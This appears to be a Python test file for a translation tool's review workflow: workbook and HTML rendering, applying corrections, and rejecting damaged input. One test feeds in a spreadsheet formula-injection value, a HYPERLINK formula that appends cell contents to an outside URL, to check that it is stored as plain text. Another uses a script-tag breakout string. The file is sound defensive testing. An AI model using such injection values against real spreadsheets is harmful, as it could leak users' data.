from __future__ import annotations

import io
import json
import re
import zipfile
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kakehashi.documents import from_bytes
from kakehashi.documents.base import Document, Mark
from kakehashi.errors import FileMissingError, FormatError, InputError
from kakehashi.language.document import translate_document
from kakehashi.language.flags import flag
from kakehashi.language.results import Language, SegmentTranslation
from kakehashi.language.review import (
    Review,
    ReviewRow,
    apply_review,
    back_translate,
    make_review,
    read_review,
    remember,
    render_page,
    render_workbook,
)
from kakehashi.language.review.apply import moved_marks, pairs
from kakehashi.language.translate import Translator
from tests.language.helpers import TASKS, engine, manifest

SOURCE = "# 案内\n\n図書館は**月曜日**が休みです。\n\n=1+1 は [数式](https://example.org/) です。\n"
SCRIPT = {
    "案内": "Notice",
    "図書館は月曜日が休みです。": "The library is closed on Mondays.",
    "=1+1 は 数式 です。": "=1+1 is a formula.",
    "月曜日": "Monday",
    "数式": "formula",
    "Notice": "お知らせ",
    "The library is closed on Mondays.": "図書館は月曜に閉まる。",
    "=1+1 is a formula.": "=1+1は式です。",
}


def opened() -> Document:
    return from_bytes(SOURCE.encode(), "md")


def reviewed(segments: list[SegmentTranslation] | None = None) -> Review:
    translator = Translator(engine(dict(SCRIPT)), manifest())
    made = list(translate_document(translator, opened(), "en")) if segments is None else segments
    return make_review(
        made,
        document="a.md",
        sha256="0" * 64,
        to="en",
        model="script 1",
        made="2026-11-26",
        back=back_translate(translator, made, "en"),
    )


def through(review: Review, path: Path) -> Review:
    path.write_bytes(render_workbook(review))
    return read_review(path)


def test_translations_are_translated_back() -> None:
    rows = reviewed().rows
    assert [row.back for row in rows] == ["お知らせ", "図書館は月曜に閉まる。", "=1+1は式です。"]


def test_a_model_without_the_other_direction_gives_no_back_translation() -> None:
    translator = Translator(engine(dict(SCRIPT)), manifest(t for t in TASKS if "en-ja" not in t))
    made = list(translate_document(translator, opened(), "en"))
    assert back_translate(translator, made, "en") == {}


def test_the_workbook_is_protected_but_for_the_corrections() -> None:
    book = load_workbook(io.BytesIO(render_workbook(reviewed())))
    sheet = book.worksheets[0]
    assert sheet.protection.sheet
    assert sheet.freeze_panes == "D2"
    assert [sheet.cell(2, column).protection.locked for column in range(1, 9)] == [
        True, True, True, True, False, True, True, True,
    ]  # fmt: skip
    assert sheet.cell(2, 3).value == "案内"
    assert sheet.cell(3, 4).alignment.wrap_text


def test_nothing_of_a_document_becomes_a_formula() -> None:
    evil = '=HYPERLINK("http://example.org/?"&A1,"x")'
    segments = [
        SegmentTranslation(number, text, text, f"line {number}", flags=(flag("leftover", evil),))
        for number, text in enumerate([evil, "+1+1", "-2", "@SUM(A1)", "\t=1", "'=1", "12", "true"])
    ]
    data = render_workbook(reviewed(segments))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    for cells in sheet.iter_rows(min_row=2):
        assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
        assert all(isinstance(cell.value, str | None) for cell in cells)
    assert sheet.cell(2, 3).value == evil
    assert sheet.cell(2, 3).quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not [name for name in package.namelist() if b"<f>" in package.read(name)]


def test_a_review_comes_back_as_it_was(tmp_path: Path) -> None:
    review = reviewed()
    back = through(review, tmp_path / "a.xlsx")
    assert back.to == "en"
    assert (back.document, back.sha256, back.model) == ("a.md", "0" * 64, "script 1")
    assert [(r.id, r.source, r.target, r.marks, r.correction) for r in back.rows] == [
        (r.id, r.source, r.target, r.marks, "") for r in review.rows
    ]


def test_without_corrections_the_document_is_the_translated_one() -> None:
    translated = opened()
    list(translate_document(Translator(engine(dict(SCRIPT)), manifest()), translated, "en"))
    document = opened()
    done = apply_review(reviewed(), document)
    assert (done.segments, done.corrected) == (3, 0)
    assert document.render() == translated.render()
    assert b"**Mondays**" in document.render() or b"**Monday**" in document.render()


class Memory:
    def __init__(self) -> None:
        self.kept: list[tuple[str, str, Language]] = []

    def correct(self, source: str, target: str, to: Language) -> None:
        self.kept.append((source, target, to))


def corrected(review: Review, number: int, text: str) -> Review:
    rows = list(review.rows)
    rows[number] = replace(rows[number], correction=text)
    return replace(review, rows=tuple(rows))


def test_a_correction_keeps_bold_and_feeds_the_memory(tmp_path: Path) -> None:
    review = corrected(reviewed(), 1, "Our library is closed every Monday.")
    document = opened()
    back = through(review, tmp_path / "a.xlsx")
    assert apply_review(back, document).corrected == 1
    assert "Our library is closed every **Monday**." in document.render().decode()
    memory = Memory()
    assert remember(back, memory) == 1
    assert memory.kept == [
        ("図書館は月曜日が休みです。", "Our library is closed every Monday.", "en")
    ]


def test_a_memory_learns_sentences_if_they_match() -> None:
    assert pairs("休みです。開きます。", "Closed. Open.", "en") == [
        ("休みです。", "Closed."),
        ("開きます。", "Open."),
    ]
    assert pairs("休みです。開きます。", "It is closed and opens later.", "en") == [
        ("休みです。開きます。", "It is closed and opens later.")
    ]


def test_another_document_is_refused_with_the_rows(tmp_path: Path) -> None:
    review = through(reviewed(), tmp_path / "a.xlsx")
    other = from_bytes(SOURCE.replace("月曜日", "火曜日").encode(), "md")
    before = other.render()
    with pytest.raises(InputError) as error:
        apply_review(review, other)
    assert "row 3" in error.value.hint
    assert "火曜日" in error.value.hint
    assert other.render() == before
    shorter = from_bytes("# 案内\n".encode(), "md")
    with pytest.raises(InputError) as error:
        apply_review(review, shorter)
    assert "no segment 2" in error.value.hint
    longer = from_bytes((SOURCE + "\n追加です。\n").encode(), "md")
    with pytest.raises(InputError) as error:
        apply_review(review, longer)
    assert "segment 3" in error.value.hint


def test_what_a_program_made_of_a_correction_is_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(render_workbook(reviewed()))
    book = load_workbook(path)
    sheet = book.worksheets[0]
    sheet.cell(2, 5).value = 2024.0
    sheet.cell(3, 5).value = "=A1 stays as typed"
    book.save(path)
    assert [row.correction for row in read_review(path).rows] == ["2024", "=A1 stays as typed", ""]


def test_the_page_is_self_contained_and_saves_what_reading_reads(tmp_path: Path) -> None:
    review = corrected(reviewed(), 0, "</script><b>Guide</b>")
    page = render_page(review).decode()
    assert not re.search(r"(?:src|href)=", page)
    assert page.count("</script>") == 2
    assert "<b>Guide" not in page
    data = re.search(r'<script id="review" type="application/json">(.*?)</script>', page, re.S)
    assert data is not None
    path = tmp_path / "a.json"
    path.write_text(data[1], "utf-8")
    back = read_review(path)
    assert [(r.id, r.source, r.target, r.marks, r.correction) for r in back.rows] == [
        (r.id, r.source, r.target, r.marks, r.correction) for r in review.rows
    ]
    (tmp_path / "a.html").write_text(page, "utf-8")
    with pytest.raises(FormatError) as error:
        read_review(tmp_path / "a.html")
    assert "Save corrections" in error.value.hint


@pytest.mark.parametrize(
    "data",
    [
        b"", b"text", b"{", b'{"format": "x"}', b"PK\x03\x04broken", b"\x00" * 100,
        json.dumps({"format": "kakehashi-review-1", "document": "", "sha256": "", "to": "en",
                    "rows": [{"id": 0, "place": "", "source": "a", "target": "b",
                              "marks": [[0, 9, 0, 0]]}]}).encode(),
    ],
)  # fmt: skip
def test_what_is_no_review_is_refused(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(data)
    with pytest.raises(FormatError) as error:
        read_review(path)
    assert error.value.hint
    with pytest.raises(FileMissingError):
        read_review(tmp_path / "none.xlsx")


def test_a_workbook_of_somebody_else_or_with_a_changed_column_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(render_workbook(reviewed()))
    book = load_workbook(path)
    book.worksheets[0].cell(2, 1).value = "first"
    book.save(path)
    with pytest.raises(FormatError):
        read_review(path)
    book.worksheets[0].delete_cols(2)
    book.save(path)
    with pytest.raises(FormatError):
        read_review(path)


@given(st.binary(max_size=40), st.integers(0, 5000), st.integers(0, 3))
def test_a_damaged_workbook_is_one_of_our_errors(
    tmp_path_factory: pytest.TempPathFactory, junk: bytes, at: int, kind: int
) -> None:
    data = bytearray(BOOK)
    at %= len(data)
    data[at : at + (len(junk) if kind else 0)] = junk
    path = tmp_path_factory.mktemp("review") / "a.xlsx"
    path.write_bytes(bytes(data))
    with suppress(InputError):  # anything else is a fault of the reader
        read_review(path)


BOOK = render_workbook(
    Review("a.md", "", "en", "m", "", (ReviewRow(0, "line 1", "prose", "案内", "Notice"),))
)

TEXTS = st.text(alphabet="ab c、日本語", max_size=12)


@given(TEXTS, TEXTS, st.data())
def test_marks_stay_inside_a_corrected_text(old: str, new: str, data: st.DataObject) -> None:
    spans = data.draw(st.lists(st.tuples(st.integers(0, len(old)), st.integers(0, len(old)))))
    marks = tuple(Mark(min(s), max(s), key, bool(key % 3 == 2)) for key, s in enumerate(spans))
    moved = moved_marks(old, new, marks)
    assert all(0 <= mark.start <= mark.end <= len(new) for mark in moved)
    by_key = {mark.key: mark for mark in moved}
    for mark in marks:
        if not mark.protected:
            assert mark.key in by_key
        elif mark.key in by_key:
            there = by_key[mark.key]
            assert new[there.start : there.end] == old[mark.start : mark.end]
    if old == new:
        assert {m.key: (m.start, m.end) for m in moved} == {m.key: (m.start, m.end) for m in marks}


def test_a_mark_covers_what_replaced_its_words() -> None:
    (mark,) = moved_marks(
        "It is closed on Monday.", "It is closed on Tuesdays.", (Mark(16, 22, 0),)
    )
    assert "It is closed on Tuesdays."[mark.start : mark.end] == "Tuesdays"
